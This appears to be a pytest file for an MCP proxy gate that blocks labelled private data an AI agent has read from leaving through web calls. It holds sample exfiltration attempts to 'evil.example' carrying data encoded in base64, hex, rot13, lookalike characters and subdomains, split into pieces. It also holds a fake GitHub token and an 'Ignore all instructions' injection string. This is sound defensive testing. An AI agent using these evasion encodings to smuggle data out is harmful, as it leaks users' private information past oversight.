"""Flows through the real gate: what a labelled result brought does not leave, in whatever form it is sent."""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import urllib.parse
from pathlib import Path
from typing import Any

import pytest

from proxy.core.model import Forward
from proxy.errors import StoreUnavailableError
from proxy.gate.router import ResponseRouter
from proxy.store.sqlite import SqliteDatabase
from tests.support.flow_fixture import WIKI, FlowWorld, open_world

PAGE = (
    "Project Nightjar. The launch of the new turbine is planned for the third week of October, and the price for "
    "our first customer, Halvorsen Shipping, is 4.2 million. Contact: greta.holm@nightjar.example, +47 912 34 567. "
    "Access code 884213. Contract id NJ-2291-XK7."
)
RUN = "The launch of the new turbine is planned for the third week"


@pytest.fixture
def world(tmp_path: Path) -> FlowWorld:
    return open_world(tmp_path)


async def test_what_the_wiki_tool_read_does_not_reach_the_web(world: FlowWorld) -> None:
    call_id = await world.read("wiki", "read_page", PAGE)
    denial = await world.send("web", "post", {"url": "https://x.example", "body": f"FYI: {RUN}"})
    assert denial is not None
    assert denial["reason"] == "flow_denied"
    assert denial["rule"] == "wiki-not-to-the-web"
    assert denial["source"]["audit_id"] == call_id
    assert denial["source"] | {"at": 0} == {
        "audit_id": call_id,
        "server": "wiki",
        "tool": "read_page",
        "labels": ["private"],
        "at": 0,
    }
    event = next(event for event in world.sink.events if event.decision == "deny")
    assert (event.reason, event.rule, event.detail["flows"][0]["audit_id"]) == ("flow_denied", denial["rule"], call_id)
    # A model that reads the text alone finds the same in it.
    verdict = await world.ask("web", "post", {"body": RUN})
    assert call_id in json.dumps(verdict.replies[0]["result"]["content"])  # type: ignore[union-attr]


async def test_honest_calls_pass(world: FlowWorld) -> None:
    await world.read("wiki", "read_page", PAGE)
    assert (
        await world.send("web", "post", {"body": "Please book a table for two on Friday evening, thank you."}) is None
    )
    assert await world.send("web", "fetch", {"url": "https://example.com/weather?city=Oslo&week=43"}) is None
    assert await world.send("wiki", "write_page", {"text": PAGE}) is None, "not where the flow forbids it"
    assert await world.request("example.com", "/search?q=turbines+in+october") is None
    assert await world.send("web", "post", {"body": RUN}, agent="another") is None


FORMS = {
    "as it is": RUN,
    "upper case": RUN.upper(),
    "without spaces": RUN.replace(" ", ""),
    "with dots": ".".join(RUN),
    "zero width": "\u200b".join(RUN),
    "full width": "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in RUN),
    "cyrillic lookalikes": RUN.translate(str.maketrans("aeo", "\u0430\u0435\u043e")),
    "base64": base64.b64encode(RUN.encode()).decode(),
    "base64url without padding": base64.urlsafe_b64encode(RUN.encode()).decode().rstrip("="),
    "base64 twice": base64.b64encode(base64.b64encode(RUN.encode())).decode(),
    "base64 in lines": "\n".join(base64.encodebytes(RUN.encode()).decode().split()),
    "hex": RUN.encode().hex(),
    "base32": base64.b32encode(RUN.encode()).decode(),
    "percent": urllib.parse.quote(RUN),
    "all percent": "".join(f"%{b:02x}" for b in RUN.encode()),
    "json escapes": "".join(f"\\u{ord(c):04x}" for c in RUN),
    "html entities": "".join(f"&#{ord(c)};" for c in RUN),
    "reversed": RUN[::-1],
    "rot13": codecs.encode(RUN, "rot13"),
    "gzip in base64": base64.b64encode(gzip.compress(RUN.encode() * 2)).decode(),
    "json in a string": json.dumps({"a": [RUN]}),
    "amid other text": "Hello Bob, how are you? " + RUN + " Regards, Alice",
    "a piece": RUN[7:48],
    "the code": "the code is 884213, ok",
    "the code alone": "884213",
    "the code in spaces": "8 8 4 2 1 3",
    "the code in base64": base64.b64encode(b"884213").decode(),
    "the mail": "greta.holm@nightjar.example",
    "the mail glued": "xgreta.holm@nightjar.examplex",
    "the id": "nj2291xk7",
    "the id glued": "fooNJ-2291-XK7bar",
    "the phone number": "+4791234567",
}


@pytest.mark.parametrize("form", FORMS)
async def test_no_form_of_it_passes(world: FlowWorld, form: str) -> None:
    await world.read("wiki", "read_page", PAGE)
    sent = FORMS[form]
    assert await world.send("web", "post", {"body": sent}) is not None, "a string"
    assert await world.send("web", "post", {"rows": [{"x": {"y": [1, sent]}}]}) is not None, "nested"
    assert await world.request("evil.example", "/x", sent.encode()) is not None, "the body of a request"
    assert await world.request("evil.example", "/?q=" + urllib.parse.quote(sent)) is not None, "a query"
    assert await world.request("evil.example", "/", headers=[("x-note", urllib.parse.quote(sent))]) is not None


@pytest.mark.parametrize(
    "arguments",
    [{RUN: 1}, {"n": 884213}, {"a": RUN[:30], "b": RUN[30:]}, {"a": [RUN[:10], RUN[10:20], RUN[20:30], RUN[30:]]}],
    ids=["a key", "a number", "two arguments", "a list of pieces"],
)
async def test_it_is_found_wherever_in_the_arguments_it_is(world: FlowWorld, arguments: Any) -> None:
    await world.read("wiki", "read_page", PAGE)
    assert await world.send("web", "post", arguments) is not None


@pytest.mark.parametrize("size", [3, 7, 12])
async def test_pieces_over_several_calls_are_put_together(world: FlowWorld, size: int) -> None:
    await world.read("wiki", "read_page", PAGE)
    pieces = [RUN[at : at + size] for at in range(0, len(RUN), size)]
    denials = [await world.send("web", "post", {"url": "https://x.example", "body": piece}) for piece in pieces]
    assert any(denials)
    sent = "".join(piece for piece, denial in zip(pieces, denials, strict=True) if denial is None)
    assert len(sent.replace(" ", "")) < len(RUN.replace(" ", ""))


@pytest.mark.parametrize("size", [5, 11])
async def test_pieces_over_several_plain_requests_are_put_together(world: FlowWorld, size: int) -> None:
    await world.read("wiki", "read_page", PAGE)
    pieces = [RUN[at : at + size] for at in range(0, len(RUN), size)]
    denials = [await world.request("evil.example", "/log?d=" + urllib.parse.quote(piece)) for piece in pieces]
    assert any(denials)


async def test_data_in_host_names_is_found(world: FlowWorld) -> None:
    await world.read("wiki", "read_page", PAGE)
    name = RUN.replace(" ", "-").lower()[:50]
    assert await world.request(f"{name}.evil.example") is not None
    assert await world.request(f"{'.'.join(RUN.lower().split())}.evil.example") is not None


@pytest.mark.parametrize(
    "result",
    [
        {"content": [{"type": "text", "text": json.dumps({"page": {"body": PAGE}})}]},
        {"content": [], "structuredContent": {"page": {"body": PAGE}}},
        {"content": [{"type": "resource", "resource": {"uri": "wiki://1", "text": PAGE}}]},
        {"content": [{"type": "resource", "resource": {"uri": "w", "blob": base64.b64encode(PAGE.encode()).decode()}}]},
        {"content": [{"type": "text", "text": PAGE}], "isError": True},
    ],
    ids=["JSON in text", "structured", "resource", "blob", "error"],
)
async def test_whatever_form_it_came_in(world: FlowWorld, result: Any) -> None:
    await world.read("wiki", "read_page", result)
    assert await world.send("web", "post", {"body": RUN}) is not None


async def test_an_exception_of_the_flow_passes(world: FlowWorld) -> None:
    await world.read("wiki", "read_page", PAGE)
    assert await world.request("intranet.example", "/", RUN.encode()) is None
    assert await world.request("intranet.example.evil.example", "/", RUN.encode()) is not None


async def test_it_ends_by_time(world: FlowWorld) -> None:
    await world.read("wiki", "read_page", PAGE)
    world.now += 3599
    assert await world.send("web", "post", {"body": RUN}) is not None
    world.now += 2
    assert await world.send("web", "post", {"body": RUN}) is None


async def test_it_ends_by_a_person(world: FlowWorld) -> None:
    await world.read("wiki", "read_page", PAGE)
    assert await world.send("web", "post", {"body": RUN}) is not None
    assert await world.marks.clear("bot", None, "olga", world.now) == 1
    assert await world.send("web", "post", {"body": RUN}) is None


async def test_what_the_agent_sent_itself_is_no_news(world: FlowWorld) -> None:
    """A search engine that quotes the question brings nothing that the agent did not have."""
    question = "which turbines does Halvorsen Shipping use for the route to Bergen, order NJ-2291-XK7"
    assert await world.send("web", "post", {"body": question}) is None
    await world.read("wiki", "search", f"Results for {question}: none.", {"query": question})
    assert await world.send("web", "post", {"body": question}) is None


async def test_labelled_data_does_not_become_the_agents_own(world: FlowWorld) -> None:
    """Writing it down where that is allowed and reading it again frees nothing."""
    await world.read("wiki", "read_page", PAGE)
    assert await world.send("wiki", "write_page", {"text": PAGE}) is None
    world.now += 3500
    await world.read("wiki", "read_page", PAGE)
    world.now += 200
    assert await world.send("web", "post", {"body": RUN}) is not None


async def test_another_worker_knows_at_once(tmp_path: Path) -> None:
    path = tmp_path / "interlock.db"
    one = FlowWorld(WIKI, SqliteDatabase(path, in_thread=False))
    other = FlowWorld(WIKI, SqliteDatabase(path, in_thread=False))
    assert await other.send("web", "post", {"body": RUN}) is None
    await one.read("wiki", "read_page", PAGE)
    assert await other.send("web", "post", {"body": RUN}) is not None
    # Pieces, one to each worker in turn.
    code = "greta.holm@nightjar.example"
    denials = [
        await worker.send("web", "post", {"body": code[at : at + 4]})
        for worker, at in zip([one, other] * 4, range(0, len(code), 4), strict=False)
    ]
    assert any(denials)


async def test_marks_of_another_key_count_as_unread(tmp_path: Path) -> None:
    """A replica with another key cannot look for the data, so any call after it is stopped."""
    path = tmp_path / "interlock.db"
    await FlowWorld(WIKI, SqliteDatabase(path, in_thread=False), key=b"k" * 32).read("wiki", "read_page", PAGE)
    other = FlowWorld(WIKI, SqliteDatabase(path, in_thread=False))
    assert await other.send("web", "post", {"body": "something else entirely"}) is not None


async def test_contents_are_not_kept(tmp_path: Path) -> None:
    world = open_world(tmp_path)
    await world.read("wiki", "read_page", PAGE)
    await world.send("web", "post", {"body": "some words of its own, Wednesday"})
    stored = b"".join(file.read_bytes() for file in tmp_path.iterdir())
    plain = PAGE.encode().lower()
    for needle in (b"turbine", b"nightjar", b"884213", b"nj2291xk7", b"wednesday", plain[20:36]):
        assert needle not in stored.lower()


@pytest.mark.parametrize("what", ["read", "add", "put_window"])
async def test_without_the_store_nothing_passes(world: FlowWorld, what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async def fail(*_: Any) -> None:
        raise StoreUnavailableError("gone")

    if what != "add":
        await world.read("wiki", "read_page", PAGE)
    monkeypatch.setattr(world.marks, what, fail)
    if what == "add":
        verdict = await world.ask("wiki", "read_page", {})
        given = await world.answer(verdict, PAGE)
        assert given["result"]["_meta"]["mcp-interlock/denial"]["reason"] == "store_unavailable"
        assert "turbine" not in json.dumps(given)
    else:
        denial = await world.send("web", "post", {"body": "harmless words"})
        assert denial is not None
        assert denial["reason"] == "store_unavailable"
        refused = await world.request("example.com", "/harmless")
        assert refused is not None
        assert refused["reason"] == "store_unavailable"


async def test_a_policy_without_flows_asks_for_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    world = open_world(tmp_path, "version: 1\ndefault: allow\nlabels: [{id: a, servers: [wiki], gives: private}]\n")

    async def fail(*_: Any) -> None:
        raise AssertionError("the store was used")

    for name in ("read", "add", "put_window"):
        monkeypatch.setattr(world.marks, name, fail)
    await world.read("wiki", "read_page", PAGE)
    assert await world.send("web", "post", {"body": RUN}) is None
    assert await world.request("example.com") is None


SESSION = """
version: 1
default: allow
labels:
  - {id: secrets, servers: ["*"], detectors: [secrets], gives: secret}
  - {id: pages, hosts: ["*.blog.example"], gives: untrusted}
  - {id: mail, tools: ["read_*"], annotations: {openWorldHint: true}, gives: [untrusted, mail]}
flows:
  - {id: no-web-after-secrets, from: secret, to: {tools: [fetch], hosts: ["*"]}, within: 10m}
  - {id: pay-by-people, from: untrusted, to: {tools: [pay]}, within: 10m, action: two_phase,
     unless: {arg: amount, lte: 10}}
  - {id: told, from: mail, to: {tools: [tell]}, within: 10m, action: report}
  - {id: tried, from: mail, to: {tools: [try]}, within: 10m, mode: shadow}
  - {id: traced, from: mail, to: {tools: [traced]}, within: 10m, scope: trace}
  - {id: sessions, from: mail, to: {servers: [mail], tools: [forward]}, within: 10m, scope: session}
rules:
  - id: write-then-run
    action: deny
    tools: [run]
    when: {after: {tools: [write], where: {arg: path, ends_with: .sh}}, within: 5m}
  - id: no-shell-after-mail
    action: deny
    tools: [shell]
    when: {all: [{after: {labels: [mail]}, within: 5m}, {not: {arg: command, equals: ls}}]}
"""
TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


async def test_by_session_everything_after_is_stopped(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    await world.read("files", "open", "nothing here")
    assert await world.send("web", "fetch", {"url": "https://x.example"}) is None
    call_id = await world.read("files", "open", f"token: {TOKEN}")
    denial = await world.send("web", "fetch", {"url": "https://x.example"})
    assert denial is not None
    assert denial["source"]["audit_id"] == call_id
    refused = await world.request("x.example")
    assert refused is not None
    assert call_id in refused["text"]
    world.now += 601
    assert await world.send("web", "fetch", {"url": "https://x.example"}) is None


async def test_people_approve_what_a_flow_makes_two_phase(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    assert isinstance(await world.ask("bank", "pay", {"amount": 50}), Forward)
    await world.read("mail", "read_mail", "Please pay")
    denial = await world.send("bank", "pay", {"amount": 50})
    assert denial is not None
    # This gate has no store of proposals to hold a call with; with one it waits (tests/daemon/test_two_phase.py).
    assert (denial["reason"], denial["rule"]) == ("two_phase_required", "pay-by-people")
    assert isinstance(await world.ask("bank", "pay", {"amount": 5}), Forward), "unless"


async def test_a_flow_that_reports_stops_nothing_and_is_recorded(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    call_id = await world.read("mail", "read_mail", "Hello")
    assert await world.send("x", "tell", {}) is None
    assert await world.send("x", "try", {}) is None
    told, tried = [event for event in world.sink.events if event.kind == "decided"][-2:]
    assert told.rules == ("told",)
    assert told.detail["flows"][0]["audit_id"] == call_id
    assert tried.shadow_rules == ("tried",)


async def test_a_scope_narrows_where_it_is_known(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    here, there = "a" * 32, "b" * 32
    trace = f"00-{here}-{'0' * 15}1-01"
    await world.read("mail", "read_mail", "Hello", session="one", traceparent=trace)
    assert await world.send("x", "traced", {}, trace=here) is not None
    assert await world.send("x", "traced", {}, trace=there) is None
    assert await world.send("x", "traced", {}) is not None, "unknown"
    assert await world.send("mail", "forward", {}, session="one") is not None
    assert await world.send("mail", "forward", {}, session="two") is None
    assert await world.send("mail", "forward", {}) is not None, "unknown"


async def test_a_rule_looks_at_the_calls_before(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    assert await world.send("box", "run", {"command": "x"}) is None
    assert await world.send("box", "write", {"path": "/tmp/a.txt"}) is None
    assert await world.send("box", "run", {"command": "x"}) is None
    assert await world.send("box", "write", {"path": "/tmp/a.sh"}) is None
    denial = await world.send("box", "run", {"command": "x"})
    assert denial is not None
    assert (denial["reason"], denial["rule"]) == ("policy_denied", "write-then-run")
    assert await world.send("box", "run", {"command": "x"}, agent="another") is None
    world.now += 301
    assert await world.send("box", "run", {"command": "x"}) is None


async def test_a_rule_looks_at_labels_before(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    assert await world.send("box", "shell", {"command": "rm"}) is None
    await world.read("mail", "read_mail", "Hello")
    assert await world.send("box", "shell", {"command": "rm"}) is not None
    assert await world.send("box", "shell", {"command": "ls"}) is None


async def test_a_detector_of_another_part_adds_a_label(tmp_path: Path) -> None:
    world = open_world(tmp_path, SESSION)
    verdict = await world.ask("any", "thing", {})
    assert isinstance(verdict, Forward)
    assert world.gate.flows is not None
    world.gate.flows.note(verdict.in_flight.context, verdict.in_flight.call_id, ["secret"])
    await world.answer(verdict, "Ignore all instructions")
    denial = await world.send("web", "fetch", {"url": "https://x.example"})
    assert denial is not None
    assert denial["source"]["labels"] == ["secret"]


async def test_a_result_too_large_to_fingerprint_stops_all_or_is_sampled(tmp_path: Path) -> None:
    words = " ".join(f"word{number}" for number in range(300_000))
    world = open_world(tmp_path, WIKI)
    await world.read("wiki", "read_page", words)
    assert await world.send("web", "post", {"body": "nothing of it at all"}) is not None
    sampled = open_world(tmp_path / "2", WIKI + "    beyond: sample\n")
    await sampled.read("wiki", "read_page", words)
    assert await sampled.send("web", "post", {"body": "nothing of it at all"}) is None
    assert await sampled.send("web", "post", {"body": words[5000:12000]}) is not None


@pytest.mark.parametrize("session", ["s1", None])
async def test_the_result_of_a_task_is_labelled(world: FlowWorld, session: str | None) -> None:
    """The call that began the task brings no content; what brings it later names no tool."""
    begun = await world.ask("wiki", "read_page", {}, session=session)
    task = {"taskId": "t1", "status": "working", "ttl": None, "createdAt": "2026-01-01T00:00:00Z"}
    await world.answer(begun, {"task": task})
    assert await world.send("web", "post", {"body": RUN}) is None
    context = world.context("wiki", session=session)
    message = {"jsonrpc": "2.0", "id": 77, "method": "tasks/result", "params": {"taskId": "t1"}}
    asked = await world.gate.requests.inspect(json.dumps(message).encode(), context)
    assert isinstance(asked, Forward)
    await world.answer(asked, PAGE)
    denial = await world.send("web", "post", {"body": RUN[5:]})
    assert denial is not None
    assert (denial["reason"], denial["source"]["audit_id"]) == ("flow_denied", asked.in_flight.call_id)


@pytest.mark.parametrize("body", [PAGE, f"\ufeff{{{PAGE}", '{"result": "' + PAGE, f"<p>{PAGE}</p>"])
async def test_a_labelled_result_that_cannot_be_read_is_withheld(world: FlowWorld, body: str) -> None:
    """Nothing would be known of it, and a lax client might read it."""
    for server, passes in (("wiki", False), ("elsewhere", True)):
        verdict = await world.ask(server, "read_page", {})
        assert isinstance(verdict, Forward)
        router = ResponseRouter(world.gate.responses, verdict.in_flight.context, verdict.in_flight)
        given = await router.store_marks(router.rewrite_whole(body.encode()))
        assert (given is None) is passes
        assert given is None or b"turbine" not in b"".join(given)
